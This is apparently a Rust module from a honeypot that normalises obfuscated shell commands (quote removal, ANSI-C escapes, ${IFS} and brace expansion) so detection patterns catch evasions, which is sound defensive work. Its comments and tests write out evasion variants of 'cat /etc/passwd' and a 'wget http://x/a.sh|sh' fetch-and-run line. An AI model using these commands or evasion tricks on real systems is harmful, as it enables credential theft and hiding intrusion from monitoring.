//! A second, de-obfuscated view of a shell command (docs/tagging.md §7.7).
//!
//! An intruder who knows that honeypots match `cat /etc/passwd` types `c''at /etc/passwd`,
//! `cat${IFS}/etc/passwd` or `w\get …`: the shell runs the same program, a regex over the raw
//! text sees something else. This module undoes what the shell itself would undo before it
//! runs a word — quote removal, backslash escapes, `$'…'` and `$"…"` strings, the
//! field-separator and empty positional-parameter expansions, comma brace expansion — and
//! nothing that needs the shell's state (variables the intruder set, command substitution,
//! `eval`, encodings piped into a shell), so the view is what any bash would run, never a
//! guess.
//!
//! The view is never longer than the raw text, so matching it at most doubles the scan the
//! text budget (`budget.rs`) bounds.

/// The command as the shell would see its words, or `None` when that is the raw text itself.
pub fn deobfuscate(command: &str) -> Option<String> {
    // Most commands have nothing to undo: say so without copying them.
    if !command.contains(['\\', '\'', '"', '$', '{']) {
        return None;
    }
    let view = Scanner::new(command).run();
    (view != command).then_some(view)
}

/// One pass over the command's characters, writing the view as it goes.
struct Scanner {
    chars: Vec<char>,
    at: usize,
    out: String,
}

impl Scanner {
    fn new(source: &str) -> Scanner {
        Scanner {
            chars: source.chars().collect(),
            at: 0,
            out: String::with_capacity(source.len()),
        }
    }

    fn peek(&self, ahead: usize) -> Option<char> {
        self.chars.get(self.at + ahead).copied()
    }

    fn run(mut self) -> String {
        while let Some(c) = self.peek(0) {
            match c {
                '\\' => self.backslash(),
                '\'' => self.single_quoted(),
                '"' => {
                    self.at += 1;
                    self.double_quoted();
                }
                '$' if self.peek(1) == Some('\'') => {
                    self.at += 2;
                    self.ansi_c_quoted();
                }
                '$' if self.peek(1) == Some('"') => {
                    self.at += 2;
                    self.double_quoted();
                }
                '$' => self.dollar(),
                '{' if self.at_word_start() => self.brace_list(),
                _ => {
                    self.out.push(c);
                    self.at += 1;
                }
            }
        }
        self.out
    }

    /// Outside quotes a backslash keeps the next character literally; before a newline it
    /// joins two lines.
    fn backslash(&mut self) {
        match self.peek(1) {
            Some('\n') => {}
            Some(next) => self.out.push(next),
            None => {}
        }
        self.at += 2;
    }

    /// `'…'`: every character literally, up to the next quote (or the end, unterminated).
    fn single_quoted(&mut self) {
        self.at += 1;
        while let Some(c) = self.peek(0) {
            self.at += 1;
            if c == '\'' {
                return;
            }
            self.out.push(c);
        }
    }

    /// `"…"` (the opening quote consumed): a backslash escapes only `$`, `` ` ``, `"`, `\`
    /// and a newline; the expansions this module knows happen inside too.
    fn double_quoted(&mut self) {
        while let Some(c) = self.peek(0) {
            match c {
                '"' => {
                    self.at += 1;
                    return;
                }
                '\\' => match self.peek(1) {
                    Some('\n') => self.at += 2,
                    Some(next @ ('$' | '`' | '"' | '\\')) => {
                        self.out.push(next);
                        self.at += 2;
                    }
                    _ => {
                        self.out.push('\\');
                        self.at += 1;
                    }
                },
                '$' => self.dollar(),
                _ => {
                    self.out.push(c);
                    self.at += 1;
                }
            }
        }
    }

    /// `$'…'` (the opening consumed): bash's ANSI-C escapes. A NUL ends the string's text,
    /// as it ends a C string: the rest up to the closing quote is dropped.
    fn ansi_c_quoted(&mut self) {
        let mut ended = false;
        while let Some(c) = self.peek(0) {
            self.at += 1;
            match c {
                '\'' => return,
                '\\' if ended => self.at += 1,
                '\\' => ended = self.ansi_c_escape() == Escape::Nul,
                _ if ended => {}
                _ => self.out.push(c),
            }
        }
    }

    /// One escape of a `$'…'` string, the backslash consumed.
    fn ansi_c_escape(&mut self) -> Escape {
        let Some(c) = self.peek(0) else {
            self.out.push('\\');
            return Escape::Text;
        };
        self.at += 1;
        let simple = match c {
            'a' => Some('\x07'),
            'b' => Some('\x08'),
            'e' | 'E' => Some('\x1b'),
            'f' => Some('\x0c'),
            'n' => Some('\n'),
            'r' => Some('\r'),
            't' => Some('\t'),
            'v' => Some('\x0b'),
            '\\' | '\'' | '"' | '?' => Some(c),
            _ => None,
        };
        if let Some(literal) = simple {
            self.out.push(literal);
            return Escape::Text;
        }
        let (radix, max_digits) = match c {
            '0'..='7' => {
                self.at -= 1; // the first digit is part of the number
                (8, 3)
            }
            'x' => (16, 2),
            'u' => (16, 4),
            'U' => (16, 8),
            _ => {
                self.out.push('\\');
                self.out.push(c);
                return Escape::Text;
            }
        };
        let mut value: u32 = 0;
        let mut digits = 0;
        while digits < max_digits
            && let Some(d) = self.peek(0).and_then(|d| d.to_digit(radix))
        {
            value = value * radix + d;
            digits += 1;
            self.at += 1;
        }
        if digits == 0 {
            self.out.push('\\');
            self.out.push(c);
            return Escape::Text;
        }
        // Octal and `\x` escapes name a byte: bash keeps the low eight bits.
        if radix == 8 || c == 'x' {
            value &= 0xff;
        }
        match char::from_u32(value) {
            Some('\0') => Escape::Nul,
            Some(ch) => {
                self.out.push(ch);
                Escape::Text
            }
            None => Escape::Text,
        }
    }

    /// `$IFS`, `${IFS}` and `${IFS…}` (a substring or default of it) become the space they
    /// split on; `$@`, `$*`, `$1`…`$9` (and braced) become the nothing they are in an
    /// intruder's login shell. Any other `$` stays.
    fn dollar(&mut self) {
        if self.peek(1) == Some('{')
            && let Some(close) = (self.at + 2..self.chars.len()).find(|&i| self.chars[i] == '}')
        {
            let inner: String = self.chars[self.at + 2..close].iter().collect();
            if let Some(expansion) = braced_expansion(&inner) {
                self.out.push_str(expansion);
                self.at = close + 1;
                return;
            }
        }
        if self.matches_ahead(1, "IFS")
            && !self
                .peek(4)
                .is_some_and(|c| c.is_ascii_alphanumeric() || c == '_')
        {
            self.out.push(' ');
            self.at += 4;
            return;
        }
        if let Some('@' | '*' | '1'..='9') = self.peek(1) {
            self.at += 2;
            return;
        }
        self.out.push('$');
        self.at += 1;
    }

    fn matches_ahead(&self, offset: usize, word: &str) -> bool {
        word.chars()
            .enumerate()
            .all(|(i, w)| self.peek(offset + i) == Some(w))
    }

    /// Whether a word could start here: the first character, or after a blank or an
    /// operator.
    fn at_word_start(&self) -> bool {
        self.at == 0
            || self.chars[self.at - 1].is_whitespace()
            || matches!(self.chars[self.at - 1], ';' | '|' | '&' | '(')
    }

    /// `{cat,/etc/passwd}` as a whole word is the words `cat /etc/passwd`. Anything else in
    /// braces (a group, a sequence, a word around the braces) stays as it is.
    fn brace_list(&mut self) {
        let close = (self.at + 1..self.chars.len()).find(|&i| {
            matches!(self.chars[i], '}' | '{' | '\'' | '"' | '$' | '\\' | '`')
                || self.chars[i].is_whitespace()
        });
        let whole_word = close.is_some_and(|close| {
            self.chars[close] == '}'
                && self
                    .chars
                    .get(close + 1)
                    .is_none_or(|&c| c.is_whitespace() || matches!(c, ';' | '|' | '&' | ')'))
        });
        let Some(close) = close.filter(|_| whole_word) else {
            self.out.push('{');
            self.at += 1;
            return;
        };
        let inner: String = self.chars[self.at + 1..close].iter().collect();
        if !inner.contains(',') {
            self.out.push('{');
            self.at += 1;
            return;
        }
        let words: Vec<&str> = inner.split(',').filter(|w| !w.is_empty()).collect();
        self.out.push_str(&words.join(" "));
        self.at = close + 1;
    }
}

/// What an escape of a `$'…'` string gave.
#[derive(PartialEq, Eq)]
enum Escape {
    Text,
    Nul,
}

/// What `${inner}` expands to, when it is one of the expansions [`Scanner::dollar`] knows.
fn braced_expansion(inner: &str) -> Option<&'static str> {
    if inner == "IFS"
        || inner
            .strip_prefix("IFS")
            .is_some_and(|rest| rest.starts_with([':', '%', '#', '/', '^', ',', '-', '+', '=']))
    {
        return Some(" ");
    }
    match inner {
        "@" | "*" | "1" | "2" | "3" | "4" | "5" | "6" | "7" | "8" | "9" => Some(""),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::deobfuscate;

    fn view(command: &str) -> String {
        deobfuscate(command).unwrap_or_else(|| command.to_owned())
    }

    #[test]
    fn the_issues_three_evasions_read_as_the_commands_they_run() {
        assert_eq!(view("c''at /etc/passwd"), "cat /etc/passwd");
        assert_eq!(view("cat${IFS}/etc/passwd"), "cat /etc/passwd");
        assert_eq!(view(r"w\get http://x/a.sh"), "wget http://x/a.sh");
    }

    #[test]
    fn plain_commands_have_no_second_view() {
        for command in [
            "cat /etc/passwd",
            "uname -a; id",
            "echo $HOME",
            "ls {",
            "a=b",
        ] {
            assert_eq!(deobfuscate(command), None, "{command}");
        }
    }

    #[test]
    fn quotes_are_removed_as_the_shell_removes_them() {
        assert_eq!(view(r#""w"g'e't /x"#), "wget /x");
        assert_eq!(view(r#"echo "a\"b\$c\d""#), r#"echo a"b$c\d"#);
        assert_eq!(view("echo 'it\\s'"), "echo it\\s");
        assert_eq!(view("cat 'unterminated"), "cat unterminated");
        assert_eq!(view("ca\\\nt x"), "cat x");
    }

    #[test]
    fn ansi_c_strings_are_decoded() {
        assert_eq!(view(r"$'\x63\x61\x74' /etc/passwd"), "cat /etc/passwd");
        assert_eq!(view(r"$'\143at' x"), "cat x");
        assert_eq!(view(r"$'\u0077get' x"), "wget x");
        assert_eq!(view(r"echo $'a\tb\'c'"), "echo a\tb'c");
        assert_eq!(view(r"$'\x00cat'x"), "x");
        assert_eq!(view(r"$'a\400b\'c'd"), "ad");
        assert_eq!(view(r"$'\q'"), r"\q");
    }

    #[test]
    fn field_separator_and_empty_parameters_expand() {
        assert_eq!(view("cat$IFS/etc/passwd"), "cat /etc/passwd");
        assert_eq!(view("cat$IFS$9/etc/passwd"), "cat /etc/passwd");
        assert_eq!(view("cat${IFS%??}/etc/passwd"), "cat /etc/passwd");
        assert_eq!(view("cat${IFS:0:1}/etc/passwd"), "cat /etc/passwd");
        assert_eq!(view("c$@at /etc/pa${*}sswd"), "cat /etc/passwd");
        assert_eq!(view(r#"echo "x${IFS}y""#), "echo x y");
        // Other variables are the intruder's, and stay.
        assert_eq!(deobfuscate("echo $IFSX $HOME ${PATH}"), None);
    }

    #[test]
    fn comma_braces_as_a_whole_word_become_words() {
        assert_eq!(view("{cat,/etc/passwd}"), "cat /etc/passwd");
        assert_eq!(
            view("id;{wget,http://x/a.sh}|sh"),
            "id;wget http://x/a.sh|sh"
        );
        // Not a whole word, or not a list: left for the raw view.
        for command in ["a{b,c}", "{b,c}d", "{ id; }", "{1..3}", "x {a b}"] {
            assert_eq!(deobfuscate(command), None, "{command}");
        }
    }

    /// Random texts of the characters the scanner treats specially: no panic, and the view
    /// is never longer than the text (the budget counts the text once).
    #[test]
    fn random_texts_never_grow() {
        const PIECES: &[&str] = &[
            "\\", "'", "\"", "$", "{", "}", ",", "IFS", "$'", "\\x", "\\u", "\\0", "7", "a", " ",
            "\n", ";", "é", "@", "9", "%", "f",
        ];
        let mut state = 0x9e37_79b9_7f4a_7c15_u64;
        for _ in 0..20_000 {
            let mut text = String::new();
            for _ in 0..=(next(&mut state) % 12) {
                text.push_str(PIECES[next(&mut state) as usize % PIECES.len()]);
            }
            assert!(view(&text).len() <= text.len(), "{text:?}");
        }
    }

    /// xorshift64: a fixed sequence, so a failure names a text that reproduces.
    fn next(state: &mut u64) -> u64 {
        *state ^= *state << 13;
        *state ^= *state >> 7;
        *state ^= *state << 17;
        *state
    }

    #[test]
    fn the_view_is_never_longer_than_the_raw_text() {
        for command in [
            "{a,b}",
            "$'\\x41'",
            "c''at",
            "${IFS}",
            "\\",
            "$'\\",
            "\"",
            "{,}",
            "$'\\U0001F600'",
        ] {
            assert!(view(command).len() <= command.len(), "{command:?}");
        }
    }
}
